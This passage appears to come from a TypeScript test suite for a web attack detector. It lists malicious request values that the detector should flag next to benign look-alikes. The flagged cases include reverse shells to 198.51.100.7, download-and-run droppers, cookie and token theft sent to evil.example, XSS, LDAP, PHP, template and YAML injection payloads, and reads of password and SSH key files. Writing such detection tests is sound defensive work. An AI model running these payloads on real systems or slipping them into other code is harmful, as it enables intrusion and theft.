  // A program named by the shape the shell expands (cmdinject.ts globPathEnd), after a separator or
  // as a whole command line for an application that runs its value.
  ["query", "ip=127.0.0.1%3B/%3F%3F%3F/%3F%3Ft+/%3F%3F%3F/p%3F%3Fs%3F%3F"],
  ["query", "c=%3B/b%3F%3F/n%3F+-e+/b%3F%3F/sh+198.51.100.7+4444"],
  ["query", "cmd=/%3F%3F%3F/%3F%3Ft+/%3F%3F%3F/p%3F%3Fs%3F%3F"],
  ["body:json", JSON.stringify({ cmd: "/usr/?in/?c? -e /b??/sh 198.51.100.7 4444" })],
];
const NOT_COMMAND_INJECTION: Case[] = [
  // Route and file patterns with wildcards.
  ["body:json", JSON.stringify({ routes: "/api/v?/users/* /api/v?/orders/*" })],
  ["body:json", JSON.stringify({ glob: "/data/*/2024-??-*.csv /data/*/2025-??-*.csv" })],
  ["query", "q=fish+%26+chips"],
  ["query", "q=bread+%26+more"],
  ["body:json", JSON.stringify({ note: "\nMore details can be seen in the tutorials" })],
  ["query", "x=;jsessionid=abc"],
  ["query", "price=$25"],
  ["query", "q=|+catalogue"],
  // A Markdown table, and commands that are also words followed by prose.
  ["body:json", JSON.stringify({ body: "| id | name | type |\n|---|---|---|\n| 1 | a | b |" })],
  ["body:json", JSON.stringify({ body: "| more | info |" })],
  ["query", "q=%26+at+home"],
  // A word and a stop is no file's name, nor is a word with a long ending; a file's name after line
  // breaks alone is left to the model.
  ["query", "q=;+more+info.+Thanks"],
  // `./` with no program's name after it, and a path that opens with no separator.
  ["query", "q=;./"],
  ["query", "note=%3B+./+is+the+current+dir"],
  ["query", "path=./docs/readme.md"],
  ["query", "q=|+more+sales.department"],
  ["body:json", JSON.stringify({ note: "\nType setup.exe to install" })],
  // A Markdown code fence.
  ["body:json", JSON.stringify({ body: "```sh\n$ ls -la\n$ cat package.json\n```" })],
  // An argument and a ';' before a word that is no command, or a command word that reads as prose.
  ["query", "ct=text/html;charset=utf-8"],
  ["body:json", JSON.stringify({ style: "color:red;display:none" })],
  ["body:json", JSON.stringify({ genres: "rock;pop;more info" })],
  ["query", "lang=en-US;q=0.9"],
  // Ad servers' targeting lists: a command that wants an operand, bare between separators, is a word.
  ["query", "kw=sport;at;foot&pos=top"],
  ["query", "sections=home;head;top"],
  ["query", "p=home;more"],
  // A page title after a separator: sleep wants a duration, net a subcommand.
  ["query", "dt=Example+News+%7C+Net+income&sid=1"],
];

// The same after a sentence of prose (sentences.ts): a shell reads the sentences before it as the
// first command's arguments.
const COMMAND_AFTER_SENTENCE: Case[] = [
  ["body:json", JSON.stringify({ review: "Arrived early. ;cat /etc/passwd Would buy again." })],
  ["query", "q=Great+service,+fast+delivery!+|+nc+-e+/bin/sh+10.0.0.1+4444"],
  ["body:form", "comment=Thanks+for+the+help.+8.8.8.8%3Bid"],
  ["body:json", JSON.stringify({ t: "Is this right? $(whoami)" })],
  ["body:json", JSON.stringify({ t: "Nice shop.   && ls -l /home" })],
  ["body:json", JSON.stringify({ t: "See the attached. 127.0.0.1; cat /etc/shadow" })],
  ["body:json", JSON.stringify({ t: "Would buy again. 127.0.0.1;id Ordered the blue one" })],
  ["body:json", JSON.stringify({ t: "Great shop. report.pdf`cat /proc/self/environ` Great." })],
  ["body:json", JSON.stringify({ t: "It broke. \"; cat /etc/hostname #" })],
];
// An operating system's file after a `..` segment, at a sentence's start as at a value's.
const OS_FILE_AFTER_SENTENCE: Case[] = [
  ["body:json", JSON.stringify({ review: "Would buy again from this shop. ../../../../proc/self/environ Ordered it." })],
  ["query", "q=Great+shop.+..%2F..%2F..%2Fetc%2Fpasswd+Ordered"],
  ["body:form", "c=Nice!+..%5C..%5Cwindows%5Cwin.ini"],
];
const NOT_OS_FILE_AFTER_SENTENCE: Case[] = [
  ["body:json", JSON.stringify({ t: "I ran it. tail -f /var/log/syslog then. Done. ../README.md explains it." })],
  // An ellipsis opens no `..` segment: the path further on is prose's.
  ["body:json", JSON.stringify({ t: "Hmm. ... see the file ../../etc/passwd here" })],
  // Not in a header, as at a value's start.
  ["header:User-Agent", "Great tool. ../../../../etc/passwd"],
];
const NOT_COMMAND_AFTER_SENTENCE: Case[] = [
  // Inside a sentence, or words that a command's name also is, followed by prose.
  ["body:json", JSON.stringify({ t: "run `git log --oneline | head -5` to see the last ones" })],
  ["body:json", JSON.stringify({ t: "Really. & more info. Done. | head of sales. Sure. | find us there" })],
  ["body:json", JSON.stringify({ t: "Noted. ; echo was heard. Hmm. | type of food. ok. | less is more" })],
  // Smileys and prices, and inline code after a sentence (no backquote opens one).
  ["body:json", JSON.stringify({ t: "Read the docs. ;) Thanks. Wow. ;-) It costs a lot. $25 is too much." })],
  ["body:json", JSON.stringify({ t: "Done! `npm test` passes now. Then `cat package.json` shows it." })],
  // No word before the stop: an ellipsis, a version.
  ["body:json", JSON.stringify({ t: "wait... ;cat /etc/passwd" })],
  ["body:json", JSON.stringify({ t: "release 1.2. | nc -l 80" })],
  // Dialogue: a quote that opens a sentence, a `;` inside it.
  ["body:json", JSON.stringify({ t: "He said. \"Great; cat lovers unite\" She said. 'fine'; more later" })],
];

// PHP code reading a superglobal (phpglobals.ts).
const PHP_SUPERGLOBAL: Case[] = [
  ["query", "x=$_SERVER['HTTP_HOST']"],
  ["body:form", "c=%3C%3Fphp+system(%24_GET%5B%27cmd%27%5D)%3B+%3F%3E"],
  ["body:json", '{"t":"{$_REQUEST[\\"c\\"]}"}'],
  ["query", "e=eval($GLOBALS['x'])"],
];
const NOT_PHP_SUPERGLOBAL: Case[] = [
  ["query", "q=how+to+read+%24_GET+in+php"],
  ["query", "price=$_99"],
  ["body:json", '{"tpl":"$_get[x]"}'],
  ["query", "v=$_GETTER[1]"],
];

// An HTML tag whose event handler calls script (xsshandler.ts), prose around it or not.
const EVENT_HANDLER: Case[] = [
  ["body:json", JSON.stringify({ callback: '<samp onmouseup="alert(1)">test</samp> Please find the details below.' })],
  ["body:form", "page=3&lang=%3Col+onkeydown%3D%22alert%281%29%22+contenteditable%3Etest%3C%2Fol%3E+The+script+supervisor+keeps+track"],
  ["query", "q=<svg/onload=alert(1)>"],
  ["query", "q=<img src=x onerror=this.onerror=confirm(1)>"],
  ["header:Referer", "https://x.example/?q=<details open ontoggle='eval(atob(x))'>"],
];
const NOT_EVENT_HANDLER: Case[] = [
  ["body:json", JSON.stringify({ html: '<p class="lead">Hello <a href="/about">about us</a></p>' })],
  ["query", "q=<b>online=yes</b>"],
  ["query", "q=a < b and onion=3"],
  ["body:json", JSON.stringify({ html: '<button onclick="">x</button>' })],
];

// An LDAP filter's terms opened by a value (ldapfilter.ts).
const LDAP_FILTER: Case[] = [
  ["query", "user=admin)(%7C(password=*))"],
  ["query", "u=*)(uid=*))(%7C(uid=*"],
  ["body:form", "u=admin)(%26)"],
  ["body:json", '{"cn":"x)(!(objectClass=person))"}'],
  // The fuzz lists' probe: a wildcard, an empty group, operators.
  ["query", "user=*()%7C%26'&sort=name"],
  ["body:form", "mail=*%28%29%7C%26%27&action=login"],
];
const NOT_LDAP_FILTER: Case[] = [
  ["body:json", JSON.stringify({ t: "see f(a)(b) and (1)(2)" })],
  // A regex's empty group after a wildcard, and a call with no arguments on a pointer, join nothing.
  ["body:json", JSON.stringify({ pattern: "^a.*()$", code: "(*fn)() | 1" })],
  ["body:json", JSON.stringify({ t: "(&) is the true filter; admin)(&)x is not one" })],
  ["query", "q=(a)(b=1)"],
];

// Cookies or web storage joined onto a string naming another host (jsexfil.ts): xss. Written from
// the payload kind (cookie theft), in the forms filter bypasses take.
const STORAGE_THEFT: Case[] = [
  ["query", "q=" + encodeURIComponent("';new Image().src='//evil.example/?'+document.cookie;'")],
  ["query", "q=" + encodeURIComponent("');document.location='https://evil.example/s?c='+escape(document.cookie);//")],
  ["body:json", JSON.stringify({ comment: "';fetch('//evil.example?c='+document['cookie'])//" })],
  ["body:json", JSON.stringify({ bio: `<img src=x onerror="navigator.sendBeacon('//evil.example', document.cookie)">` })],
  ["body:form", "name=" + encodeURIComponent("window.onload=()=>fetch(`https://evil.example/${localStorage.token}`)")],
  ["header:Referer", "https://shop.example/?q=';location='//evil.example/'.concat(window.sessionStorage.getItem('jwt'))//"],
  ["query", "x=" + encodeURIComponent("$.post('//evil.example/c',{c:btoa(JSON.stringify(localStorage))})")],
];
const NOT_STORAGE_THEFT: Case[] = [
  // A site's own code: a cookie tested, read into a variable or written; a URL elsewhere in it.
  ["body:json", JSON.stringify({ code: "loadScript('https://cdn.example/consent.js'); if (document.cookie.indexOf('consent=1') < 0) showBanner();" })],
  ["body:json", JSON.stringify({ code: "fetch('https://api.example/v1/me'); var c = document.cookie; localStorage.setItem('seen', '1');" })],
  ["body:json", JSON.stringify({ code: "document.cookie = 'ref=' + encodeURIComponent('https://example.com/') + '; path=/';" })],
  ["body:json", JSON.stringify({ text: "See https://developer.mozilla.org/docs/Web/API/Document/cookie for document.cookie and localStorage." })],
  ["query", "q=" + encodeURIComponent("https://example.com/?ref=" + "documentcookie+localStorageX")],
];

// A cookie set by an injected page, session fixation (sessionfix.ts, CRS 943100): xss.
const SESSION_FIXATION: Case[] = [
  ["query", "foo=" + encodeURIComponent('<meta http-equiv="Set-Cookie" content="ASPSESSIONIDAQQSDCSC=HOHBKFPAAOEIBBPHFIBFKGGJ">')],
  ["body:form", "bio=" + encodeURIComponent("<META HTTP-EQUIV=Set-Cookie CONTENT=PHPSESSID=abc123>")],
  ["query", "q=" + encodeURIComponent('<script>document.cookie="sessionid=1234; domain=.example.com"</script>')],
  ["body:json", JSON.stringify({ name: "<script>document['cookie']='JSESSIONID=x;expires=Fri, 01 Jan 2100 00:00:00 GMT'</script>" })],
];
const NOT_SESSION_FIXATION: Case[] = [
  ["body:json", JSON.stringify({ code: "if (document.cookie.indexOf('consent=1') < 0) { document.cookie = 'consent=1; path=/'; }" })],
  ["body:json", JSON.stringify({ html: '<meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta http-equiv="refresh" content="30">' })],
  ["body:json", JSON.stringify({ text: "The Set-Cookie header takes Domain=, Expires= and Path=; document.cookie reads them back." })],
  ["query", "q=" + encodeURIComponent("document.cookie == 'a=1; domain=x'")],
];

// A `vbscript:` URL that calls something (vbscript.ts): xss.
const VBSCRIPT_CALL: Case[] = [
  ["query", "q=" + encodeURIComponent("vbscript:msgbox(1)")],
  ["body:form", "url=" + encodeURIComponent("VBScript: document.write(\"x\")")],
  ["body:json", JSON.stringify({ html: '<a href="vbscript:Execute(\'MsgBox 1\')">x</a>' })],
];
const NOT_VBSCRIPT_CALL: Case[] = [
  ["body:json", JSON.stringify({ text: "Old IE pages used vbscript: a language (see MsgBox(1) in the docs)." })],
  ["query", "q=" + encodeURIComponent("myvbscript:run(1)")],
];

// Python reaching its interpreter (pyescape.ts): the class of where it runs.
const PYTHON_ESCAPE: Case[] = [
  ["query", "q=" + encodeURIComponent("__builtins__.eval('1+1')")],
  ["query", "name=" + encodeURIComponent('__import__("pty").spawn("/bin/sh")')],
  ["body:json", JSON.stringify({ tpl: "{{ ().__class__.__bases__[0].__subclasses__() }}" })],
  ["body:form", "expr=" + encodeURIComponent("getattr(__builtins__,'__import__')('os').system('id')")],
];
const NOT_PYTHON_ESCAPE: Case[] = [
  ["body:json", JSON.stringify({ code: "import os\nprint(os.path.join('a', 'b'))\nmod = __import__('json')" })],
  ["body:json", JSON.stringify({ text: "Python's __subclasses__() lists a class's direct subclasses; __builtins__ holds the built-ins." })],
];
// A PowerShell download cradle (pscradle.ts): rce.
const POWERSHELL_CRADLE: Case[] = [
  ["query", "c=" + encodeURIComponent("powershell IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')")],
  ["body:form", "cmd=" + encodeURIComponent("Invoke-Expression (Invoke-WebRequest http://evil.example/x).Content")],
  ["body:json", JSON.stringify({ x: "(New-Object System.Net.WebClient).DownloadFile('http://evil.example/a.exe','C:\\a.exe')" })],
];
const NOT_POWERSHELL_CRADLE: Case[] = [
  ["body:json", JSON.stringify({ script: "$r = Invoke-WebRequest -Uri 'https://api.example.com/v1/items'; $r.StatusCode" })],
  ["body:json", JSON.stringify({ text: "Use iex (short for Invoke-Expression) with care; DownloadString(url) returns a string." })],
];
// A PowerShell cmdlet where a command stands (pscmdlet.ts, cmdinject.ts), or PowerShell told to run
// one or to run scripts unsigned (lolbin.ts): rce.
const POWERSHELL_CMDLET: Case[] = [
  ["query", "cmd=" + encodeURIComponent(";Get-ChildItem C:\\")],
  ["query", "x=" + encodeURIComponent("| Get-Content C:\\Windows\\win.ini")],
  ["body:form", "host=" + encodeURIComponent("127.0.0.1 | Get-WmiObject Win32_Process")],
  ["body:json", JSON.stringify({ host: "127.0.0.1; Stop-Process -Name explorer" })],
  ["query", "x=" + encodeURIComponent("& Invoke-WebRequest http://198.51.100.7/x -OutFile x.exe")],
  ["body:json", JSON.stringify({ host: "8.8.8.8 && Set-MpPreference -DisableRealtimeMonitoring $true" })],
  // The value's own command line.
  ["body:json", JSON.stringify({ cmd: "Set-Content -Path shell.aspx -Value x" })],
  ["query", "x=" + encodeURIComponent("Start-Process calc.exe")],
  ["body:form", "c=" + encodeURIComponent("Get-Content C:\\inetpub\\wwwroot\\web.config")],
  ["body:json", JSON.stringify({ cmd: "Remove-Item $env:TEMP\\* -Recurse" })],
  // PowerShell given a line to run, or its execution policy lifted.
  ["query", "c=" + encodeURIComponent('powershell -c "Start-Process calc"')],
  ["body:json", JSON.stringify({ cmd: 'powershell.exe -Command "& {Get-Process}"' })],
  ["body:form", "c=" + encodeURIComponent("pwsh -command whoami")],
  ["query", "c=" + encodeURIComponent("powershell -ep bypass .\\run.ps1")],
  ["body:json", JSON.stringify({ cmd: "powershell -ExecutionPolicy Unrestricted -File \\\\198.51.100.7\\s\\x.ps1" })],
  ["query", "c=" + encodeURIComponent('powershell "Get-ChildItem C:\\"')],
];
const NOT_POWERSHELL_CMDLET: Case[] = [
  // Prose that names a cmdlet, a name inside a word, a slug, a heading, PowerShell's everyday options.
  ["body:json", JSON.stringify({ text: "Get-Process is slow on this server, any idea why?" })],
  ["body:json", JSON.stringify({ name: "cloud-logs-test-connection-20260513T161627", method: "DELETE" })],
  ["body:json", JSON.stringify({ slug: "get-started-with-azure-functions" })],
  ["body:json", JSON.stringify({ title: "New-Item: create files and folders" })],
  ["query", "q=" + encodeURIComponent("Where-Object vs Select-Object")],
  ["query", "q=" + encodeURIComponent("powershell is great for automation")],
  ["query", "q=" + encodeURIComponent("powershell -command is the option you want")],
  ["query", "q=" + encodeURIComponent("powershell -ExecutionPolicy RemoteSigned")],
  ["body:json", JSON.stringify({ text: "Fish & Get-Chips" })],
  // A script posted whole (a gist's file), not a command line.
  ["body:json", JSON.stringify({ files: { "clean.ps1": { content: "Get-ChildItem -Path $env:TEMP -Recurse |\n  Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-7) } |\n  Remove-Item -Force\n" } } })],
];
// A PHP function that runs a command called by a string or a name in parentheses (phpcall.ts): rce.
const PHP_STRING_CALL: Case[] = [
  ["query", "x=" + encodeURIComponent("'system'('id');")],
  ["body:form", "c=" + encodeURIComponent('"passthru"("cat /etc/passwd")')],
  ["query", "x=" + encodeURIComponent('"sys"."tem"("id");')],
  ["body:json", JSON.stringify({ c: "('shell' . '_exec')('ls -la')" })],
  ["query", "x=" + encodeURIComponent("(system)('id');")],
];
const NOT_PHP_STRING_CALL: Case[] = [
  // Curried calls, a string of another function, a sentence with quotes and parentheses.
  ["body:json", JSON.stringify({ code: 'const f = curry(add)("a")("b"); const n = ("str" . "len")("abc");' })],
  ["body:json", JSON.stringify({ text: 'Press "Save"(or Ctrl+S) and then (optional)(see below) "system"' })],
  ["body:json", JSON.stringify({ code: "(function () { return 1; })(); ($ || jQuery)('body');" })],
];
// cmd.exe's FOR loop (batchfor.ts): rce.
const BATCH_FOR: Case[] = [
  ["query", "x=" + encodeURIComponent("for /f %i in ('whoami') do echo %i")],
  ["body:form", "c=" + encodeURIComponent("for /r C:\\ %f in (*.config) do type %f")],
  ["body:json", JSON.stringify({ host: "127.0.0.1 & FOR %%A IN (1 2 3) DO ping -n 1 %%A" })],
];
const NOT_BATCH_FOR: Case[] = [
  ["body:json", JSON.stringify({ q: "SELECT name FROM users WHERE id IN (1, 2, 3) ORDER BY name" })],
  ["body:json", JSON.stringify({ text: "Discount of 20% in (most) stores, do check the list for details" })],
];
// A character redirect lists write for a slash, then a host (hiddenhost.ts lookalikeSlashHost): open_redirect.
const SLASH_LOOKALIKE: Case[] = [
  ["query", "return_url=/%E3%80%B1google.com"],
  ["query", "goto=%E3%80%B5evil.example"],
  ["body:form", "r=%E3%82%9Dgoogle.com&lang=en"],
  ["body:json", JSON.stringify({ redirect: "ーattacker.example" })],
  ["query", "url=/%EF%BD%B0google.com"],
  ["query", "dest=%E3%80%B1216.58.214.206"],
  ["path", "/%E3%80%B1evil.com"],
];
const NOT_SLASH_LOOKALIKE: Case[] = [
  // Japanese prose and words, a long vowel mark inside a word or before a word without a dot.
  ["query", "q=" + encodeURIComponent("ニューカレドニア")],
  ["body:json", JSON.stringify({ title: "ーーー お知らせ ーーー", body: "パーティーへ行かないか" })],
  ["body:json", JSON.stringify({ name: "ーabc" })],
];
// Smarty's tag holding a product of two numbers, opening a value (braceprobe.ts): ssti.
const BRACE_PROBE: Case[] = [
  ["query", "text={73*13}"],
  ["body:form", "greeting=%7B28*32%7D&lang=en"],
  ["body:json", JSON.stringify({ subject: "{ 1337 * 1337 }" })],
  ["path", "/assets/{91*53}"],
];
const NOT_BRACE_PROBE: Case[] = [
  // A range, a fraction, a template's placeholder, a brace further in, a pair of braces' close.
  ["query", "pages={1-2}"],
  ["body:json", JSON.stringify({ ratio: "{3/4}", label: "{count}", note: "size {2*3}" })],
  ["query", "q=" + encodeURIComponent("{7*7}}")],
];
// PHP's shell operator in a PHP tag (phptag.ts): rce.
const PHP_TAG_SHELL: Case[] = [
  ["query", "x=" + encodeURIComponent("<?= `ls` ?>")],
  ["body:form", "c=" + encodeURIComponent("<?php echo `id`; ?>")],
  // A call that runs a command or code, writes a file or shows the configuration, in the tag.
  ["body:form", "c=" + encodeURIComponent('<?php system("id"); ?>')],
  ["body:text", "GIF89a\n<?php echo shell_exec ('whoami'); ?>"],
  ["body:json", JSON.stringify({ note: "<?php $c=base64_decode('aWQ='); \\system($c); ?>" })],
  ["query", "x=" + encodeURIComponent("<?php phpinfo(); ?>")],
];
const NOT_PHP_TAG_SHELL: Case[] = [
  ["body:json", JSON.stringify({ md: "Run `npm ci` then `npm test`; the page starts with <?xml version=\"1.0\"?>." })],
  ["body:json", JSON.stringify({ md: "Use the `<?php` tag; see `phpinfo` in the docs." })],
  ["body:json", JSON.stringify({ md: "Write <?php at the top of the file, then run `composer install` and `php -S localhost:8000`." })],
  // A method or a static call of the same name, a variable's, and a name out of a tag.
  ["body:json", JSON.stringify({ code: '<?php $pdo->exec("DELETE FROM carts WHERE id = 1"); Task::system($t); $eval($x); ?>' })],
  ["body:json", JSON.stringify({ md: "Avoid system() and eval() in templates." })],
];

// A YAML tag that builds a code-running object (yamltags.ts): rce.
const YAML_GADGET: Case[] = [
  ["body:text", "!!python/object/apply:os.system ['id']"],
  ["body:text", "--- !ruby/object:Gem::Installer\ni: x\n"],
  ["body:form", "config=" + encodeURIComponent('!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.example/"]]]]')],
];
const NOT_YAML_GADGET: Case[] = [
  ["body:text", "--- !ruby/hash:ActiveSupport::HashWithIndifferentAccess\nname: Ann\nurl: https://example.com/a/b\n"],
  ["body:text", "tags: !!set {a, b}\nwhen: !!timestamp 2026-12-06\npath: /var/lib/x\n"],
];

// A Windows program that fetches or runs code, as a value's whole command line (lolbin.ts): rce.
const LIVING_OFF_THE_LAND: Case[] = [
  ["query", "cmd=" + encodeURIComponent("certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe")],
  ["query", "cmd=" + encodeURIComponent("c^ert^util -url^cache -f http://198.51.100.7/a a")],
  ["body:form", "c=" + encodeURIComponent("cmd /c C:\\Windows\\System32\\certutil.exe -decode a.b64 a.exe")],
  ["body:json", JSON.stringify({ cmd: "bitsadmin /transfer job /download http://evil.example/a.exe %TEMP%\\a.exe" })],
  ["query", "x=" + encodeURIComponent("regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll")],
  ["query", "x=" + encodeURIComponent("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)")],
  ["body:json", JSON.stringify({ run: "%windir%\\system32\\mshta.exe http://evil.example/payload.hta" })],
  ["query", "q=" + encodeURIComponent('wmic process call create "cmd.exe /c calc"')],
  ["query", "q=" + encodeURIComponent('wmic os get /format:"http://evil.example/a.xsl"')],
  ["body:form", "c=" + encodeURIComponent("msiexec /q /i http://evil.example/a.msi")],
  ["query", "c=" + encodeURIComponent("cscript //E:jscript \\\\evil.example\\share\\a.txt")],
  ["query", "c=" + encodeURIComponent("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA")],
  ["header:x-command", "\"pwsh.exe\" -WindowStyle Hidden -File run.ps1"],
  // Interpreters given a one-line program that opens a shell or a socket.
  ["query", "cmd=" + encodeURIComponent("python -c \"import pty;pty.spawn('/bin/bash')\"")],
  ["body:form", "c=" + encodeURIComponent("ruby -rsocket -e 'c=TCPSocket.new(\"198.51.100.7\",4444)'")],
  ["body:json", JSON.stringify({ cmd: "php -r '$s=fsockopen(\"198.51.100.7\",4444);exec(\"/bin/sh -i <&3 >&3\");'" })],
  ["query", "x=" + encodeURIComponent("awk 'BEGIN {system(\"id\")}'")],
  // A download piped to a shell or an interpreter.
  ["query", "cmd=" + encodeURIComponent("wget -O- http://198.51.100.7/a|bash")],
  ["body:form", "c=" + encodeURIComponent("curl -fsSL https://evil.example/x.sh | sudo sh")],
  ["body:json", JSON.stringify({ cmd: "curl -s http://198.51.100.7/x | /bin/sh" })],
  ["query", "x=" + encodeURIComponent("wget -qO- ftp://198.51.100.7/a|python3")],
  // Reverse shells: netcat or socat running a program for the peer, a session or a decoder piped to a shell.
  ["query", "x=" + encodeURIComponent("nc -e /bin/sh 198.51.100.7 4444")],
  ["body:json", JSON.stringify({ host: "ncat 198.51.100.7 4444 --sh-exec 'bash -i'" })],
  ["query", "x=" + encodeURIComponent("busybox nc 198.51.100.7 4444 -e sh")],
  ["body:form", "c=" + encodeURIComponent("nc.exe -e cmd.exe 198.51.100.7 4444")],
  ["body:form", "c=" + encodeURIComponent("socat tcp-connect:198.51.100.7:4444 exec:sh,pty")],
  ["query", "x=" + encodeURIComponent("telnet 198.51.100.7 4444 | /bin/bash | telnet 198.51.100.7 4445")],
  ["query", "x=" + encodeURIComponent("echo YmFzaCAtaQ== | base64 -d | bash")],
  ["body:json", JSON.stringify({ cmd: "base64 -d <<< Y2F0IC9ldGMvcGFzc3dk | sh" })],
  // A botnet's dropper: a download from an address, then the file run.
  ["query", "x=" + encodeURIComponent("cd /tmp; wget http://198.51.100.7/mozi.m; chmod 777 mozi.m; ./mozi.m")],
  ["body:json", JSON.stringify({ host: "cd /tmp && wget http://198.51.100.7/x && sh x" })],
  ["body:form", "c=" + encodeURIComponent("curl http://198.51.100.7:8080/x -o /tmp/x; chmod +x /tmp/x; /tmp/x")],
  ["query", "x=" + encodeURIComponent("busybox wget http://198.51.100.7/bins.sh; sh bins.sh")],
  // tftp getting a file from an address; ping's time probe against loopback.
  ["query", "x=" + encodeURIComponent("tftp -g -r x 198.51.100.7")],
  ["body:json", JSON.stringify({ host: "tftp -i 198.51.100.7 GET x.exe" })],
  ["query", "ip=" + encodeURIComponent("ping -c 10 127.0.0.1")],
  ["body:form", "host=" + encodeURIComponent("ping 127.0.0.1 -n 10")],
];
const NOT_LIVING_OFF_THE_LAND: Case[] = [
  // The programs' everyday arguments, and sentences that name them.
  ["query", "q=" + encodeURIComponent("certutil -hashfile setup.exe SHA256")],
  ["query", "q=" + encodeURIComponent("wmic os get caption")],
  ["query", "q=" + encodeURIComponent("powershell -Command Get-Date")],
  ["query", "q=" + encodeURIComponent("powershell -e hello")],
  ["body:json", JSON.stringify({ text: "certutil is a program that can download with -urlcache" })],
  ["body:json", JSON.stringify({ text: "mshta is a Windows program for http stuff" })],
  ["body:json", JSON.stringify({ text: "wmic is the tool to call create processes" })],
  ["body:json", JSON.stringify({ text: "regsvr32 is used with /i:foo to install" })],
  ["body:json", JSON.stringify({ text: "Use certutil -urlcache to fetch it" })],
  ["body:json", JSON.stringify({ text: "certain people say the /transfer is done" })],
  ["query", "q=" + encodeURIComponent("python3 -c \"import sys; print(sys.version)\"")],
  ["query", "q=" + encodeURIComponent("awk -F: '{print $1}' users.txt")],
  ["body:json", JSON.stringify({ text: "python is a language for system programming" })],
  ["body:json", JSON.stringify({ text: "node is down, exec failed on the socket" })],
  // A download piped to a program that runs nothing, or a shell only on failure; a sentence.
  ["query", "q=" + encodeURIComponent("curl https://api.example.com/v1/items | jq .")],
  ["query", "q=" + encodeURIComponent("curl http://x.example/a || bash fallback.sh")],
  ["body:json", JSON.stringify({ text: "wget is a tool; curl | bash is risky" })],
  ["body:json", JSON.stringify({ cmd: "curl -o a.sh https://example.com/a.sh" })],
  // Network tools' everyday use, an echo into a filter, words that open as the programs' names do.
  ["query", "q=" + encodeURIComponent("nc -zv example.com 443")],
  ["query", "q=" + encodeURIComponent("socat - TCP:example.com:80")],
  ["query", "q=" + encodeURIComponent("telnet mail.example.com 25")],
  ["query", "q=" + encodeURIComponent("echo test | grep t")],
  ["query", "q=" + encodeURIComponent("netcat -l 1234")],
  ["body:json", JSON.stringify({ text: "nc -e is disabled in Debian's netcat" })],
  ["body:json", JSON.stringify({ text: "business plan -e draft | shared" })],
  // An install line fetches from a name; a download from an address that runs nothing; a directory changed.
  ["body:json", JSON.stringify({ run: "curl -LO https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl && chmod +x kubectl" })],
  ["body:json", JSON.stringify({ run: "wget http://192.168.1.20/backup.tar.gz && tar xzf backup.tar.gz" })],
  ["body:json", JSON.stringify({ run: "cd docs && make html" })],
  // A ping of another host, or with no count; tftp with no address or no get; prose.
  ["query", "q=" + encodeURIComponent("ping -c 4 example.com")],
  ["query", "q=" + encodeURIComponent("ping 127.0.0.1")],
  ["body:json", JSON.stringify({ cmd: "tftp 198.51.100.7" })],
  ["body:json", JSON.stringify({ text: "ping the server at 127.0.0.1 with -c 10 to wait" })],
];

// A value that is one command line against the system's own files (cmdinject.ts systemCommandLine): rce.
const SYSTEM_COMMAND_LINE: Case[] = [
  ["query", "cmd=" + encodeURIComponent("find / -perm -4000")],
  ["body:json", JSON.stringify({ host: "find / -type f -name \"*.conf\" -exec grep -l password {} +" })],
  ["body:form", "c=" + encodeURIComponent("rm -rf /var/www")],
  ["query", "x=" + encodeURIComponent("ls /home")],
  ["body:json", JSON.stringify({ cmd: "tail -n 5 /var/log/auth.log" })],
  ["query", "f=" + encodeURIComponent("cat ~/.ssh/id_rsa")],
  ["body:json", JSON.stringify({ q: "grep root /etc/passwd" })],
  ["query", "d=" + encodeURIComponent("ls -l /")],
  // With a wildcard that the glob verdict leaves alone (a search for it reads the same: the verdict's cost).
  ["query", "q=" + encodeURIComponent("ls /etc/*.conf")],
];
const NOT_SYSTEM_COMMAND_LINE: Case[] = [
  // Where programs and builds live; a script's file run by its interpreter; prose; a script of many lines.
  ["body:json", JSON.stringify({ run: "rm -rf /tmp/build" })],
  ["body:json", JSON.stringify({ cmd: "node /srv/app/index.js" })],
  ["body:json", JSON.stringify({ cmd: "python /home/app/manage.py migrate" })],
  ["query", "q=" + encodeURIComponent("find the /etc folder")],
  ["query", "q=" + encodeURIComponent("ls /home is empty")],
  ["body:json", JSON.stringify({ script: "set -e\nls /etc/nginx\nnginx -t" })],
  ["query", "q=" + encodeURIComponent("cat /products/shoes")],
];

// A path with the shell's wildcards that names a program or an OS file (globpath.ts): rce or traversal.
const GLOBBED_PATH: Case[] = [
  ["query", "cmd=" + encodeURIComponent("/b?n/c?t /e?c/p?sswd")],
  ["query", "f=" + encodeURIComponent("cat /e??/p??swd")],
  ["body:json", JSON.stringify({ file: "/etc/pa*wd" })],
  ["body:form", "x=" + encodeURIComponent("which /usr/bin/wh??mi")],
  ["header:user-agent", "python-requests/2.31.0 FAIL||ca''t /ETC/PASS??"],
];
const NOT_GLOBBED_PATH: Case[] = [
  ["query", "q=" + encodeURIComponent("ls /srv/*.conf")],
  ["query", "q=" + encodeURIComponent("ls /usr/bin/python*")],
  ["body:json", JSON.stringify({ glob: "/etc/* /bin/*" })],
  ["query", "u=" + encodeURIComponent("https://x.example/bin/c?t=1")],
  ["body:json", JSON.stringify({ routes: "/api/v?/users/* /usr/bin/c?" })],
];

// bash's network redirection (revshell.ts): rce.
const BASH_NET_REDIRECT: Case[] = [
  ["query", "x=" + encodeURIComponent("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")],
  ["body:json", JSON.stringify({ name: "a; exec 196<>/dev/udp/198.51.100.7/53" })],
];
const NOT_BASH_NET_REDIRECT: Case[] = [
  ["query", "q=" + encodeURIComponent("/dev/tcp")],
  ["body:json", JSON.stringify({ path: "/dev/tty", note: "see /dev/tcp/ in bash(1)" })],
];

// Razor's explicit expression holding arithmetic on two numbers (razor.ts): ssti.
const RAZOR_PROBE: Case[] = [
  ["query", "name=" + encodeURIComponent("@(7*7)")],
  ["body:json", JSON.stringify({ greeting: "Hi @( 1337 + 1 )" })],
];
const NOT_RAZOR_PROBE: Case[] = [
  ["query", "q=" + encodeURIComponent("call me @(555) 123-4567")],
